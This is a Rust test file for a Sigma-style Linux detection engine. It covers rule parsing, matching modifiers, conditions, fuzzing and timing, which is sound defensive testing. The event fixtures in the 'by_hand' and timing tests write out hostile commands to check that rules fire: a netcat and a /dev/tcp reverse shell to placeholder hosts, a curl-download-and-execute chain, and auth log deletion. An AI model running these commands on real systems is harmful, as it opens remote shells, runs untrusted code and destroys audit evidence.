//! Cases: values, conditions, the YAML of rules, and every shipped rule with its own event.

use crate::pattern::{Part, Pattern, Where};
use crate::rule::LogSource;
use crate::selection::Selection;
use crate::shipped::{FILES, shipped, unread};
use crate::yaml::{Node, read};
use crate::{Event, Rule, RuleSet, Wrong};

fn process() -> Event {
    Event::new(LogSource::new(Some("process_creation"), None))
}

/// A rule with this detection, two steps indented.
fn rule(detection: &str) -> Result<Rule, Wrong> {
    let body: String = detection.lines().map(|line| format!("    {line}\n")).collect();
    Rule::parse(&format!("title: t\nlogsource:\n    product: linux\ndetection:\n{body}"))
}

fn check(detection: &str, fields: &[(&str, &str)], expected: bool) {
    let rule = rule(detection).unwrap_or_else(|wrong| panic!("{wrong}\n{detection}"));
    let event = fields.iter().fold(process(), |event, (name, value)| event.with(name, value));
    let set = RuleSet::new(vec![rule]);
    assert_eq!(!set.weigh(&event).is_empty(), expected, "{detection}\n{fields:?}");
    assert_eq!(set.weigh_slowly(&event).len(), set.weigh(&event).len());
}

#[test]
fn values_and_modifiers() {
    let with = |key: &str, value: &str| format!("s:\n  {key}: {value}\ncondition: s");
    let one = |key: &str, value: &str, held: &str, expected| {
        check(&with(key, value), &[("F", held)], expected);
    };
    one("F", "'abc'", "ABC", true);
    one("F", "'abc'", "abcd", false);
    one("F", "'a*c'", "a---C", true);
    one("F", "'a?c'", "abc", true);
    one("F", "'a?c'", "ac", false);
    one("F", r"'a\*c'", "a*c", true);
    one("F", r"'a\*c'", "abc", false);
    one("F", r"'C:\\Windows\*'", r"c:\windows*", true);
    one("F", r"'\tmp'", r"\TMP", true);
    one("F|contains", "'b'", "aBc", true);
    one("F|contains", "'b*d'", "xxbxxdxx", true);
    one("F|startswith", "'ab'", "ABc", true);
    one("F|startswith", "'bc'", "abc", false);
    one("F|endswith", "'bc'", "aBC", true);
    one("F|endswith", "'ab'", "abc", false);
    one("F|cased", "'abc'", "ABC", false);
    one("F|contains|cased", "'B'", "aBc", true);
    one("F|re", r"'^a\d+c$'", "a12c", true);
    one("F|re", r"'^a\d+c$'", "A12c", false);
    one("F|re|i", r"'^a\d+c$'", "A12c", true);
    one("F|cidr", "'10.0.0.0/8'", "10.1.2.3", true);
    one("F|cidr", "'10.0.0.0/8'", "11.1.2.3", false);
    one("F|cidr", "'0.0.0.0/0'", "11.1.2.3", true);
    one("F|cidr", "'fe80::/10'", "fe80::1", true);
    one("F|cidr", "'fe80::/10'", "10.1.2.3", false);
    one("F|gte", "10", "10", true);
    one("F|lt", "10", "10", false);
    one("F", "null", "", true);
    one("F", "null", "x", false);
    one("G", "null", "x", true);
    one("G|exists", "false", "x", true);
    one("F|exists", "true", "x", true);
    one("F", "''", "", true);
    one("F", "''", "x", false);
    one("F", "42", "42", true);
    one("F|contains", "'ΑΣ'", "ξΑσξ", true);
    let list = "s:\n  F|contains|all:\n    - 'a'\n    - 'b'\ncondition: s";
    check(list, &[("F", "xbxa")], true);
    check(list, &[("F", "xa")], false);
    let maps = "s:\n  - F: 'a'\n    G: 'b'\n  - H: 'c'\ncondition: s";
    check(maps, &[("F", "a"), ("G", "b")], true);
    check(maps, &[("F", "a"), ("G", "c")], false);
    check(maps, &[("H", "c")], true);
    let words = "k:\n  - 'needle'\n  - 'two *words'\ncondition: k";
    check(words, &[("Any", "a NEEDLE in hay")], true);
    check(words, &[("Any", "x two more words y")], true);
    check(words, &[("Any", "two word")], false);
    let every = "k:\n  '|all':\n    - 'one'\n    - 'two'\ncondition: k";
    check(every, &[("A", "one"), ("B", "two")], true);
    check(every, &[("A", "one")], false);
}

#[test]
fn conditions() {
    let of = |condition: &str| {
        format!(
            "sel_a:\n  A: '1'\nsel_b:\n  B: '1'\nfilter_c:\n  C: '1'\n_d:\n  D: '1'\n\
             condition: {condition}"
        )
    };
    let case = |condition: &str, there: &str, expected: bool| {
        let names: Vec<String> = there.chars().map(|one| one.to_string()).collect();
        let fields: Vec<(&str, &str)> = names.iter().map(|name| (name.as_str(), "1")).collect();
        check(&of(condition), &fields, expected);
    };
    case("sel_a", "A", true);
    case("not sel_a", "A", false);
    case("sel_a and sel_b", "A", false);
    case("sel_a and sel_b or filter_c", "C", true);
    case("sel_a and (sel_b or filter_c)", "C", false);
    case("sel_a and (sel_b or filter_c)", "AC", true);
    case("1 of sel_*", "B", true);
    case("all of sel_*", "B", false);
    case("all of sel_* and not 1 of filter_*", "AB", true);
    case("all of sel_* and not 1 of filter_*", "ABC", false);
    case("1 of them", "D", false);
    case("all of them", "ABC", true);
    case("any of sel*", "A", true);
    case("NOT (sel_a AND sel_b)", "A", true);
    case("not not sel_a", "A", true);
}

#[test]
fn what_is_not_read_is_refused() {
    let refuse = |detection: &str, expected: &str| match rule(detection) {
        Ok(_) => panic!("read: {detection}"),
        Err(wrong) => assert!(wrong.to_string().contains(expected), "{wrong}"),
    };
    refuse("s:\n  F|base64offset: 'a'\ncondition: s", "base64offset");
    refuse("s:\n  F: 'a'\ncondition: t", "`t`");
    refuse("s:\n  F: 'a'\ncondition: s and", "the end");
    refuse("s:\n  F: 'a'\ncondition: (s", "`)`");
    refuse("s:\n  F: 'a'\ncondition: s | count() > 5", "the end of the condition");
    refuse("s:\n  F: 'a'\ncondition: 2 of s*", "`2`");
    refuse("s:\n  F|re: '(a'\ncondition: s", "regular expression");
    refuse("s:\n  F|re: 'a{65000}'\ncondition: s", "repetitions written out");
    refuse("s:\n  F|re: '((a{50}){50}){50}'\ncondition: s", "repetitions written out");
    refuse("s:\n  F|cidr: '10.0.0.0/99'\ncondition: s", "a network");
    refuse("s:\n  F: 'a'", "condition");
    refuse("s: &x\n  F: 'a'\ncondition: s", "anchor");
    refuse("s:\n  F: 'a'\n  F: 'b'\ncondition: s", "second time");
    let deep = format!("s:\n  F: 'a'\ncondition: {}s{}", "(".repeat(99), ")".repeat(99));
    refuse(&deep, "levels");
}

/// Ten thousand lines in one quote took a time that grew with their square.
#[test]
fn a_quote_of_many_lines_is_read_in_one_pass() {
    let text = format!("k: \"begin\n{}  end\"\n", "    xxxxxxxxxxxxxxxxxxxx\n".repeat(9_990));
    let length = read(&text).unwrap().get("k").and_then(Node::text).map(str::len);
    assert_eq!(length, Some("begin end".len() + 9_990 * 21));
}

#[test]
fn yaml_as_rules_write_it() {
    let text = "# head\na: 'it''s' # note\nb: \"tab\\there \\x41\\u00e9\"\nc: plain text: no\n";
    assert!(read(text).is_ok());
    let value = |text: &str| read(&format!("k: {text}")).unwrap().get("k").unwrap().clone();
    let is = |text: &str, expected: &str| assert_eq!(value(text).text(), Some(expected), "{text}");
    is("'it''s'", "it's");
    is("\"a\\tb\\\\c \\x41\\u00e9\"", "a\tb\\c Aé");
    is("plain # note", "plain");
    is("a#b", "a#b");
    is("|\n  one\n    two\n\n  three\n", "one\n  two\n\nthree");
    is(">-\n  one\n  two", "one two");
    is("long\n  goes on", "long goes on");
    is("'quoted\n  goes on'", "quoted goes on");
    is("'it''\n  ''s'", "it' 's");
    is("\"a \\\\\n  \\\" b\"", "a \\ \" b");
    assert!(read("k: \"a \\\n  b\"").is_err());
    assert_eq!(value("~"), Node::Null);
    let texts = |node: Node| match node {
        Node::List(items) => {
            items.iter().filter_map(|item| item.text().map(str::to_owned)).collect()
        }
        other => vec![format!("{other:?}")],
    };
    assert_eq!(texts(value("[a, 'b, c', \"d\"]")), ["a", "b, c", "d"]);
    assert_eq!(texts(value("\n- a\n- 'b: c'\n- d")), ["a", "b: c", "d"]);
    assert_eq!(texts(value("\n  -   a\n  - b")), ["a", "b"]);
    for bad in ["k: 'open", "k: {a: b}", "k: *x", "- a\nk: v", "k: v\n   x: y", "k: [a", "\tk: v"] {
        assert!(read(bad).is_err(), "{bad}");
    }
}

/// What the 248 public rules for Linux use beyond the plainest forms.
#[test]
fn forms_of_public_rules() {
    let case = |detection: &str, value: &str, expected: bool| {
        let rule = rule(detection).unwrap_or_else(|wrong| panic!("{detection}: {wrong}"));
        let event = Event::new(rule.source.clone()).with("F", value);
        let set = RuleSet::new(vec![rule]);
        assert_eq!(!set.weigh(&event).is_empty(), expected, "{detection} of {value}");
    };
    // A long line is itself the finding; written out it is the largest expression of them.
    let long = "s:\n  F|re: '(.){200,}' # a comment\ncondition: s";
    case(long, &"x".repeat(200), true);
    case(long, &"x".repeat(199), false);
    case("s:\n  F|re: '(?i)^/tmp/\\.[a-z0-9]{1,12}$'\ncondition: s", "/TMP/.x11", true);
    case("s:\n  F|re: '\\s-[a-z]*e[a-z]*\\s'\ncondition: s", "nc -lve sh", true);
    case("s:\n  F|contains|all:\n    - ' -a '\n    - ' -b'\ncondition: s", "x -a -b", true);
    case("s:\n  F|contains|all:\n    - ' -a '\n    - ' -b'\ncondition: s", "x -a ", false);
    case("s:\n  F|cidr: 10.0.0.0/8\ncondition: s", "10.9.8.7", true);
    case("s:\n  '|all':\n    - one\n    - two\ncondition: s", "two, then one", true);
    case("s:\n  - F|endswith: '/a'\n  - F|startswith: b\ncondition: 1 of s*", "bc", true);
}

/// A whole set that lies beside the checkout, which is never in it: the folder `sigma` of the
/// suites. `sekisho sigma DIR` tells the same of any folder.
#[test]
fn every_public_rule_that_is_here() {
    let suites = std::env::var("SEKISHO_SUITES").unwrap_or("../../../shared/suites".to_owned());
    let folder = std::path::Path::new(&suites).join("sigma");
    let (mut read, mut folders) = (0, vec![folder.clone()]);
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(&folder).into_iter().flatten() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path);
            } else if path.extension().is_some_and(|end| end == "yml") {
                let text = std::fs::read_to_string(&path).unwrap();
                let rule = Rule::parse(&text);
                let rule = rule.unwrap_or_else(|wrong| panic!("{}: {wrong}", path.display()));
                assert!(!rule.author.is_empty(), "{} names nobody", path.display());
                read += 1;
            }
        }
    }
    match read {
        0 => println!("absent: {} (public rules are not in this repository)", folder.display()),
        read => println!("{read} public rules read"),
    }
}

#[test]
fn every_shipped_rule_is_read_and_names_its_author() {
    assert_eq!(unread(), []);
    assert_eq!(shipped().len(), FILES.len());
    for (rule, (name, _)) in shipped().iter().zip(FILES) {
        assert!(!rule.author.is_empty() && !rule.level.is_empty(), "{name}");
        assert_eq!(rule.source.product.as_deref(), Some("linux"), "{name}");
    }
}

/// A value in which each of these patterns is found.
fn value_for(patterns: &[&Pattern]) -> String {
    let (mut start, mut middle, mut end) = (String::new(), String::new(), String::new());
    for pattern in patterns {
        match pattern {
            Pattern::Text { text, at: Where::Whole, .. } => return text.clone(),
            Pattern::Text { text, at: Where::AtStart, .. } => start.clone_from(text),
            Pattern::Text { text, at: Where::AtEnd, .. } => end.clone_from(text),
            Pattern::Text { text, .. } => middle.push_str(text),
            Pattern::Wild { parts, .. } => middle.extend(parts.iter().map(|part| match part {
                Part::Literal(text) => text.as_str(),
                Part::Any | Part::One => "x",
            })),
            Pattern::Expression(found, _) if found.as_str() == r"\/\." => middle.push_str("/.x"),
            other => panic!("no value is known for {other:?}"),
        }
    }
    start + &middle + &end
}

/// The fields that a selection wants, by its first alternatives.
fn wanted<'a>(selection: &'a Selection, found: &mut Vec<(String, &'a Pattern)>) {
    let take = |name: &str, patterns: &'a [Pattern], all: bool, found: &mut Vec<_>| {
        let count = if all { patterns.len() } else { 1 };
        found.extend(patterns.iter().take(count).map(|pattern| (name.to_owned(), pattern)));
    };
    match selection {
        Selection::All(parts) => parts.iter().for_each(|part| wanted(part, found)),
        Selection::Any(parts) => wanted(&parts[0], found),
        Selection::Field { name, patterns, is_all } => take(name, patterns, *is_all, found),
        Selection::Keywords { patterns, is_all } => take("Message", patterns, *is_all, found),
    }
}

/// An event made of some of a rule's own selections.
fn event_of(rule: &Rule, chosen: &[usize]) -> Event {
    let mut fields = Vec::new();
    chosen.iter().for_each(|at| wanted(&rule.selections[*at], &mut fields));
    let mut names: Vec<&String> = fields.iter().map(|(name, _)| name).collect();
    names.sort();
    names.dedup();
    let mut event = Event::new(rule.source.clone());
    for name in names {
        let patterns: Vec<&Pattern> =
            fields.iter().filter(|(own, _)| own == name).map(|(_, pattern)| *pattern).collect();
        event = event.with(name, &value_for(&patterns));
    }
    event
}

#[test]
fn each_rule_finds_its_own_event_and_not_an_innocent_one() {
    let rules = shipped();
    let set = RuleSet::new(shipped());
    for rule in &rules {
        let count = rule.selections.len();
        let choices = (1u32..1 << count)
            .map(|bits| (0..count).filter(|at| bits & (1 << at) != 0).collect::<Vec<usize>>());
        let events: Vec<Event> = choices.map(|chosen| event_of(rule, &chosen)).collect();
        let finds = |event: &&Event| set.weigh(event).iter().any(|found| found.title == rule.title);
        let positive = events.iter().find(finds);
        let positive = positive.unwrap_or_else(|| panic!("{}: no event of its own", rule.title));
        for event in &events {
            let (quick, slow) = (set.weigh(event), set.weigh_slowly(event));
            let titles = |rules: &[&Rule]| -> Vec<String> {
                rules.iter().map(|rule| rule.title.clone()).collect()
            };
            assert_eq!(titles(&quick), titles(&slow), "the search for texts decides nothing");
        }
        let mut innocent = positive.clone();
        innocent.fields.iter_mut().for_each(|(_, value)| *value = "innocent".to_owned());
        assert!(!finds(&&innocent), "{} finds an innocent event", rule.title);
        let mut elsewhere = positive.clone();
        elsewhere.source.product = Some("windows".to_owned());
        assert!(!finds(&&elsewhere), "{} looks at another product", rule.title);
    }
}

#[test]
fn by_hand() {
    let set = RuleSet::new(shipped());
    let check = |image: &str, line: &str, parent: &str, expected: &[&str]| {
        let event = process().with("Image", image).with("CommandLine", line);
        let event = event.with("ParentImage", parent);
        let found: Vec<&str> = set.weigh(&event).iter().map(|rule| rule.title.as_str()).collect();
        assert_eq!(found, expected, "{line}");
    };
    check("/usr/bin/ls", "ls -l /var/log", "/bin/bash", &[]);
    check("/usr/bin/rm", "rm -rf /VAR/log/auth.log", "/bin/bash", &["Clear Linux Logs"]);
    check("/usr/bin/whoami", "whoami", "/usr/sbin/nginx", &["Linux Webshell Indicators"]);
    check("/usr/bin/whoami", "whoami", "/usr/bin/bash", &[]);
    check("/bin/sh", "sh -c cat x |sh", "/x", &["Linux Shell Pipe to Shell"]);
    check(
        "/usr/bin/nc",
        "nc -e /bin/sh 10.0.0.1 9",
        "/x",
        &["Potential Netcat Reverse Shell Execution"],
    );
    check(
        "/usr/bin/bash",
        "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'",
        "/x",
        &["Suspicious Use of /dev/tcp"],
    );
}

#[test]
fn fuzz_rules() {
    let mut state = 0x9e37_79b9_7f4a_7c15u64;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    let event = process().with("Image", "/bin/sh").with("CommandLine", "sh -c 'a' | sh");
    for round in 0..4_000usize {
        let mut bytes = FILES[round % FILES.len()].1.as_bytes().to_vec();
        for _ in 0..4 {
            let at = next() as usize % bytes.len();
            match next() % 3 {
                0 => bytes[at] = b"'\"|-:>#[]{}*& \n\\x"[next() as usize % 17],
                1 => drop(bytes.remove(at)),
                _ => bytes.insert(at, (next() >> 32) as u8),
            }
        }
        if let Ok(rule) = Rule::parse(&String::from_utf8_lossy(&bytes)) {
            let set = RuleSet::new(vec![rule]);
            assert_eq!(set.weigh(&event).len(), set.weigh_slowly(&event).len());
        }
    }
}

/// Rules that lie beside the checkout: the folder that `SEKISHO_RULES` names, or none.
fn rules_beside() -> Vec<String> {
    let mut folders: Vec<_> =
        std::env::var_os("SEKISHO_RULES").into_iter().map(std::path::PathBuf::from).collect();
    let mut texts = Vec::new();
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).into_iter().flatten().flatten() {
            match entry.path() {
                path if path.is_dir() => folders.push(path),
                path => texts.extend(std::fs::read_to_string(path)),
            }
        }
    }
    texts
}

/// Not a test of ours but numbers, of the shipped rules and of those beside them:
/// `SEKISHO_RULES=DIR cargo test --release -p sigma -- --ignored --nocapture`.
#[test]
#[ignore = "a measurement"]
fn microseconds_an_event() {
    let texts = rules_beside();
    let began = std::time::Instant::now();
    let rules = texts.iter().filter_map(|text| Rule::parse(text).ok());
    let set = RuleSet::new(shipped().into_iter().chain(rules).collect());
    let (ready, always) = (began.elapsed(), set.without_text());
    println!("{} rules are ready after {ready:?}; {always} need no text", set.len());
    let innocent = process()
        .with("Image", "/usr/bin/python3.11")
        .with("CommandLine", &"/usr/bin/python3 -m worker --queue mail --verbose ".repeat(4))
        .with("ParentImage", "/usr/lib/systemd/systemd");
    let telling = process()
        .with("Image", "/usr/bin/bash")
        .with("CommandLine", "bash -c 'curl http://192.0.2.1/x -o /tmp/x; chmod +x /tmp/x; /tmp/x'")
        .with("ParentImage", "/usr/bin/python3.11")
        .with("ParentCommandLine", "python3 /srv/app/serve.py")
        .with("CurrentDirectory", "/srv/app")
        .with("User", "www-data");
    let record = Event::new(LogSource::new(None, Some("auditd")))
        .with("type", "EXECVE")
        .with("CommandLine", "systemctl restart postfix")
        .with("a0", "systemctl")
        .with("a1", "restart")
        .with("a2", "postfix");
    // Time on a processor, where the kernel tells it: others may want the machine too.
    let spent = || {
        let text = std::fs::read_to_string("/proc/thread-self/schedstat").unwrap_or_default();
        text.split_whitespace().next().and_then(|spent| spent.parse::<u64>().ok())
    };
    for (name, event) in [("innocent", innocent), ("telling", telling), ("a record", record)] {
        let (began, before) = (std::time::Instant::now(), spent());
        let rounds = 20_000u32;
        let found: usize = (0..rounds).map(|_| set.weigh(&event).len()).sum();
        let each = began.elapsed() / rounds;
        let own = spent().zip(before).map(|(after, before)| (after - before) / u64::from(rounds));
        let found = found / rounds as usize;
        println!("{name}: {each:?} an event, {own:?} ns of a processor, {found} found");
    }
}
